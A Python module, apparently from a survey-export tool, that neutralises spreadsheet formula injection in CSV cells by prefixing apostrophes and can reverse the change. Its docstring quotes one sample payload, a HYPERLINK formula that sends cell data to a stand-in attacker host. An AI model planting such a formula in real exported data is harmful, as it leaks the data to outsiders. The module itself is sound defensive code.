r"""Spreadsheet formula neutralisation for CSV cells, shared by `rrsite export` and the analyzer.

A spreadsheet opening a CSV runs a cell that starts with ``=``, ``+``, ``-`` or ``@`` as a formula
(and some also after a leading tab or carriage return); a respondent's free text such as
``=HYPERLINK("http://evil.example/?"&A1)`` would then run on the researcher's machine ("CSV
injection", OWASP). The export prefixes such text with an apostrophe, which spreadsheets read as
"this is text" and do not display.

The same holds after every line break inside a cell (CR, LF or CRLF): a program that splits a
multi-line cell into lines, or a spreadsheet import that mistakes a line break for a row's end,
would otherwise see a line starting with a formula. So the rule applies at the start of the cell
and at the start of every line in it: ``"a\n=1"`` -> ``"a\n'=1"``. (After a line break a CR is
one more line break, not text, so there only ``= + - @`` and a tab count.)

To read the cell back exactly, the rule is a bijection on strings: a line (or the cell) is prefixed
when it is any number of apostrophes followed by a trigger character, and `restore` removes one
apostrophe from every line of that shape. So ``=1`` -> ``'=1``, ``'=1`` -> ``''=1``, and
``'hello`` (no trigger after the apostrophes) is written and read unchanged. Inserting an
apostrophe never adds or removes a line break, so the lines `restore` looks at are the lines
`neutralise` looked at.
"""

from __future__ import annotations

import re

#: Characters that make a spreadsheet treat a cell as a formula (OWASP "CSV Injection").
TRIGGERS = frozenset("=+-@\t\r")
#: The same at the start of a line after a line break inside the cell.
LINE_TRIGGERS = frozenset("=+-@\t")

_LINE_GUARDED = re.compile(r"(?<=[\r\n])(?='*[=+\-@\t])")
_LINE_RESTORE = re.compile(r"(?<=[\r\n])'(?='*[=+\-@\t])")


def _guarded(text: str) -> bool:
    """True if the text, past any leading apostrophes, starts with a formula trigger."""
    rest = text.lstrip("'")
    return bool(rest) and rest[0] in TRIGGERS


def neutralise(text: str) -> str:
    """The cell as written to CSV: an apostrophe before it and each line that look like formulas."""
    cell = "'" + text if _guarded(text) else text
    if "\n" in cell or "\r" in cell:
        cell = _LINE_GUARDED.sub("'", cell)
    return cell


def restore(cell: str) -> str:
    """The original text of a cell `neutralise` wrote (other cells are returned unchanged)."""
    if "\n" in cell or "\r" in cell:
        cell = _LINE_RESTORE.sub("", cell)
    return cell[1:] if cell.startswith("'") and _guarded(cell) else cell
